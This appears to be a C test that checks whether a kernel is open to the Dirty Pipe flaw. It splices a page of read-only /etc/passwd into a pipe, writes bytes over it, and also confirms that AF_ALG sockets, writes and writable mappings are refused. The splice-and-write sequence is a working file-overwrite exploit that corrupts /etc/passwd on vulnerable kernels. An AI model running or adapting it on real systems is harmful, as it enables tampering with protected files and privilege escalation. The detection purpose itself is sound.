// Fills a pipe with pages of a file it may only read, and writes into the pipe: on kernels with the
// hole this changed the file for everybody.
int main(void) {
    char before[16] = {0}, after[16] = {0};
    int file = open("/etc/passwd", O_RDONLY);
    pread(file, before, sizeof before, 0);
    int ends[2];
    pipe(ends);
    static char page[4096];
    fcntl(ends[1], F_SETFL, O_NONBLOCK);
    fcntl(ends[0], F_SETFL, O_NONBLOCK);
    while (write(ends[1], page, sizeof page) > 0);
    while (read(ends[0], page, sizeof page) > 0);
    loff_t at = 0;
    splice(file, &at, ends[1], 0, 1, 0);
    write(ends[1], "XXXXXXXX", 8);
    must_fail("AF_ALG", socket(38, SOCK_SEQPACKET, 0), ENOSYS, ENOSYS);
    must_fail("write", write(file, "X", 1), EBADF, EBADF);
    must_fail("map", mmap(0, 4096, PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0, EACCES, EPERM);
    pread(file, after, sizeof after, 0);
    if (memcmp(before, after, sizeof before)) { puts("the file was changed"); return 1; }
    return verdict();
}
